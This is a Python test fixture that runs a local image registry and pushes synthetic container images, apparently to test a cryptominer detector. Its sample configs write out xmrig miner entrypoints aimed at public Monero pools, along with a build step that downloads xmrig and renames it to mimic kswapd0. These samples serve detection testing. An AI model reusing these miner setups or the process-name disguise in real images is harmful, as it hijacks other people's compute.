"""A real image registry on loopback for tests: Debian's docker-registry (distribution 2.8), with or without
token auth, and images assembled and pushed over HTTP from Python (no Docker, no crane).

The token server is a few lines here: it answers every ``GET /token`` with a JWT signed (RS256, by the
``openssl`` command) with a self-signed certificate that the registry trusts (``rootcertbundle``), and
counts what it was asked. Everything listens on 127.0.0.1 only.
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import io
import json
import shutil
import socket
import subprocess
import tarfile
import threading
import time
import urllib.error
import urllib.parse
import urllib.request
import uuid
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

OCI_MANIFEST = "application/vnd.oci.image.manifest.v1+json"
OCI_INDEX = "application/vnd.oci.image.index.v1+json"
OCI_CONFIG = "application/vnd.oci.image.config.v1+json"
OCI_LAYER = "application/vnd.oci.image.layer.v1.tar+gzip"


def registry_binary() -> str | None:
    return shutil.which("docker-registry") or (
        "/usr/bin/docker-registry" if Path("/usr/bin/docker-registry").exists() else None
    )


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def digest(body: bytes) -> str:
    return "sha256:" + hashlib.sha256(body).hexdigest()


def _b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


class TokenServer:
    """Issues registry tokens for any scope asked (anonymous), signed with a fresh self-signed key."""

    def __init__(self, workdir: Path, service: str = "minerguard-test", issuer: str = "minerguard-test") -> None:
        self.key, self.cert = workdir / "token.key", workdir / "token.crt"
        subprocess.run(
            [
                *("openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-subj", "/CN=token"),
                *("-keyout", str(self.key), "-out", str(self.cert)),
            ],
            check=True,
            capture_output=True,
        )
        der = subprocess.run(
            ["openssl", "x509", "-in", str(self.cert), "-outform", "DER"], check=True, capture_output=True
        ).stdout
        self.x5c = base64.b64encode(der).decode()
        self.service, self.issuer = service, issuer
        self.asked: list[str] = []
        server = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                query = urllib.parse.parse_qs(urllib.parse.urlsplit(self.path).query)
                server.asked.append(self.path)
                body = json.dumps({"token": server.token(query.get("scope", [])), "expires_in": 300}).encode()
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_: Any) -> None:
                pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}/token"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def token(self, scopes: list[str]) -> str:
        access = []
        for scope in scopes:
            kind, _, rest = scope.partition(":")
            name, _, actions = rest.rpartition(":")
            access.append({"type": kind, "name": name, "actions": actions.split(",")})
        now = int(time.time())
        claims = {"iss": self.issuer, "sub": "", "aud": self.service, "exp": now + 300, "nbf": now - 10}
        claims |= {"iat": now, "jti": uuid.uuid4().hex, "access": access}
        header = {"typ": "JWT", "alg": "RS256", "x5c": [self.x5c]}
        signing = f"{_b64url(json.dumps(header).encode())}.{_b64url(json.dumps(claims).encode())}"
        signature = subprocess.run(
            ["openssl", "dgst", "-sha256", "-sign", str(self.key)],
            input=signing.encode(),
            check=True,
            capture_output=True,
        ).stdout
        return f"{signing}.{_b64url(signature)}"

    def stop(self) -> None:
        self.httpd.shutdown()


class Registry:
    """One docker-registry process on 127.0.0.1:<free port>, storing under ``workdir``."""

    def __init__(self, workdir: Path, token: TokenServer | None = None, port: int = 0) -> None:
        binary = registry_binary()
        if binary is None:
            raise RuntimeError("docker-registry is not installed (hack/tools.sh registry installs it)")
        self.binary, self.workdir, self.tokens = binary, workdir, token
        self.port = port or free_port()
        self.host = f"127.0.0.1:{self.port}"
        self.proc: subprocess.Popen[bytes] | None = None
        self._token_cache: dict[str, str] = {}
        config: dict[str, Any] = {
            "version": 0.1,
            "log": {"level": "info", "accesslog": {"disabled": False}},
            "storage": {"filesystem": {"rootdirectory": str(workdir / "data")}},
            "http": {"addr": self.host},
        }
        if token is not None:
            realm = {"realm": token.url, "service": token.service, "issuer": token.issuer}
            config["auth"] = {"token": realm | {"rootcertbundle": str(token.cert)}}
        (workdir / "config.yml").write_text(json.dumps(config))  # JSON is YAML

    def start(self) -> None:
        log = open(self.workdir / "registry.log", "ab")
        self.proc = subprocess.Popen([self.binary, "serve", str(self.workdir / "config.yml")], stdout=log, stderr=log)
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline:
            try:
                urllib.request.urlopen(f"http://{self.host}/v2/", timeout=1)
                return
            except urllib.error.HTTPError:
                return  # 401: up, with auth
            except OSError:
                time.sleep(0.1)
        raise RuntimeError(f"docker-registry did not start: {(self.workdir / 'registry.log').read_text()[-2000:]}")

    def stop(self) -> None:
        if self.proc is not None:
            self.proc.terminate()
            self.proc.wait(timeout=10)
            self.proc = None

    def served(self, path: str) -> int:
        """How many GETs of ``path`` (e.g. ``/v2/r/blobs/sha256:...``) the registry answered, from its access log."""
        log = (self.workdir / "registry.log").read_text(errors="replace")
        return sum(1 for line in log.splitlines() if f'"GET {path} ' in line)

    # -- pushing --------------------------------------------------------------------------

    def _auth(self, repo: str) -> dict[str, str]:
        if self.tokens is None:
            return {}
        if repo not in self._token_cache:
            self._token_cache[repo] = self.tokens.token([f"repository:{repo}:pull,push"])
        return {"Authorization": f"Bearer {self._token_cache[repo]}"}

    def _call(self, method: str, url: str, repo: str, body: bytes = b"", ctype: str = "") -> Any:
        headers = self._auth(repo) | ({"Content-Type": ctype} if ctype else {})
        request = urllib.request.Request(  # noqa: S310 - loopback only
            url, data=body if method != "POST" else b"", method=method, headers=headers
        )
        return urllib.request.urlopen(request, timeout=60)  # noqa: S310 - loopback only

    def push_blob(self, repo: str, body: bytes) -> str:
        d = digest(body)
        with self._call("POST", f"http://{self.host}/v2/{repo}/blobs/uploads/", repo) as r:
            location = urllib.parse.urljoin(f"http://{self.host}/", r.headers["Location"])
        sep = "&" if "?" in location else "?"
        self._call("PUT", f"{location}{sep}digest={d}", repo, body, "application/octet-stream").close()
        return d

    def push_manifest(self, repo: str, ref: str, doc: dict[str, Any]) -> str:
        body = json.dumps(doc).encode()
        self._call("PUT", f"http://{self.host}/v2/{repo}/manifests/{ref}", repo, body, doc["mediaType"]).close()
        return digest(body)

    def push_image(self, repo: str, tag: str, config: dict[str, Any], arches: tuple[str, ...] = ("amd64",)) -> str:
        """An image (an index when more than one architecture) with one small layer; its top digest."""
        layer = _empty_layer()
        manifests = []
        for arch in arches:
            cfg = {"architecture": arch, "os": "linux", "rootfs": {"type": "layers", "diff_ids": [digest(_tar())]}}
            cfg |= config
            body = json.dumps(cfg).encode()
            manifest = {
                "schemaVersion": 2,
                "mediaType": OCI_MANIFEST,
                "config": {"mediaType": OCI_CONFIG, "digest": self.push_blob(repo, body), "size": len(body)},
                "layers": [{"mediaType": OCI_LAYER, "digest": self.push_blob(repo, layer), "size": len(layer)}],
            }
            if len(arches) == 1:
                return self.push_manifest(repo, tag, manifest)
            size = len(json.dumps(manifest).encode())
            entry = {
                "mediaType": OCI_MANIFEST,
                "digest": self.push_manifest(repo, digest(json.dumps(manifest).encode()), manifest),
            }
            manifests.append(entry | {"size": size, "platform": {"os": "linux", "architecture": arch}})
        return self.push_manifest(repo, tag, {"schemaVersion": 2, "mediaType": OCI_INDEX, "manifests": manifests})

    def push_oversized_config(self, repo: str, tag: str, size: int) -> str:
        """An image whose "config" is ``size`` bytes of JSON padding (the reader must refuse it)."""
        body = b'{"pad":"' + b"x" * max(0, size - 10) + b'"}'
        layer = _empty_layer()
        manifest = {
            "schemaVersion": 2,
            "mediaType": OCI_MANIFEST,
            "config": {"mediaType": OCI_CONFIG, "digest": self.push_blob(repo, body), "size": len(body)},
            "layers": [{"mediaType": OCI_LAYER, "digest": self.push_blob(repo, layer), "size": len(layer)}],
        }
        return self.push_manifest(repo, tag, manifest)


def _tar() -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tar:
        info = tarfile.TarInfo("etc/hostname")
        info.size, info.mtime = 4, 0
        tar.addfile(info, io.BytesIO(b"box\n"))
    return buf.getvalue()


def _empty_layer() -> bytes:
    return gzip.compress(_tar(), mtime=0)


# -- the test images (a miner's, and benign look-alikes) --------------------------------------

WALLET = "4" + ("9Hq3LmNp7RsTuVwXy2Za4Bc5De6Ef8Gh" * 4)[:94]


def history(*steps: str) -> list[dict[str, Any]]:
    return [{"created": "2024-01-01T00:00:00Z", "created_by": s} for s in steps]


MINER_ENTRYPOINT = {
    "config": {
        "Entrypoint": ["/usr/local/bin/pause", "-o", "stratum+tcp://pool.supportxmr.com:3333", "-u", WALLET, "-k"],
        "Env": ["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"],
    },
    "history": history(
        "/bin/sh -c #(nop) ADD file:5d673d25da3a14ce1f6cf66e4c7fd4f4b85a3759a9d93efb3fd9ff852b5b56e4 in / ",
        "COPY xmrig /usr/local/bin/pause # buildkit",
        'ENTRYPOINT ["/usr/local/bin/pause" "-o" "stratum+tcp://pool.supportxmr.com:3333"]',
    ),
}
MINER_HISTORY = {
    "config": {"Entrypoint": ["/docker-entrypoint.sh"], "Cmd": ["start"], "WorkingDir": "/opt/app"},
    "history": history(
        "/bin/sh -c #(nop) ADD file:0ab7 in / ",
        '/bin/sh -c #(nop)  CMD ["bash"]',
        "RUN /bin/sh -c apt-get update && apt-get install -y curl ca-certificates # buildkit",
        "RUN /bin/sh -c curl -sL -o /tmp/x.tgz https://github.com/xmrig/xmrig/releases/download/v6.21.0/"
        "xmrig-6.21.0-linux-static-x64.tar.gz && tar xzf /tmp/x.tgz -C /opt && mv /opt/xmrig-6.21.0/xmrig "
        "/usr/bin/kswapd0 && /usr/bin/kswapd0 --version # buildkit",
        "COPY docker-entrypoint.sh / # buildkit",
        'ENTRYPOINT ["/docker-entrypoint.sh"]',
    ),
}
MINER_ENV_CONFIG = {
    "config": {
        "Entrypoint": ["/app/run"],
        "Env": [
            "PATH=/usr/bin:/bin",
            "APP_CONFIG="
            + json.dumps(
                {"cpu": {"enabled": True}, "pools": [{"url": "gulf.moneroocean.stream:10128", "user": WALLET}]}
            ),
        ],
    },
    "history": history("COPY run /app/run # buildkit"),
}
PAUSE = {
    "config": {"Entrypoint": ["/pause"], "User": "65535:65535", "WorkingDir": "/"},
    "history": history(
        "ARG ARCH", "ADD bin/pause-linux-amd64 /pause # buildkit", "USER 65535:65535", 'ENTRYPOINT ["/pause"]'
    ),
}
NGINX = {
    "config": {
        "Entrypoint": ["/docker-entrypoint.sh"],
        "Cmd": ["nginx", "-g", "daemon off;"],
        "Env": ["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "NGINX_VERSION=1.25.3"],
        "ExposedPorts": {"80/tcp": {}},
        "Labels": {"maintainer": "NGINX Docker Maintainers <docker-maint@nginx.com>"},
        "StopSignal": "SIGQUIT",
    },
    "history": history(
        "/bin/sh -c #(nop) ADD file:2b3f in / ",
        "LABEL maintainer=NGINX Docker Maintainers <docker-maint@nginx.com>",
        "ENV NGINX_VERSION=1.25.3",
        "RUN /bin/sh -c set -x && groupadd --system nginx && apt-get update && apt-get install --no-install-recommends"
        " --no-install-suggests -y nginx=${NGINX_VERSION}-1~bookworm && rm -rf /var/lib/apt/lists/* # buildkit",
        "COPY docker-entrypoint.sh / # buildkit",
        'ENTRYPOINT ["/docker-entrypoint.sh"]',
        "EXPOSE map[80/tcp:{}]",
        'CMD ["nginx" "-g" "daemon off;"]',
    ),
}
